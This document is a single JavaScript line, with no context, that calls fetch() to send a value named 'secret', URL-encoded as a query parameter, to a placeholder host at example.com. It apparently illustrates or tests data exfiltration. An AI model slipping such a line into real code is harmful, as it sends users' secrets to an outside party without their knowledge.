fetch("https://example.com/?d=" + encodeURIComponent(input.secret));
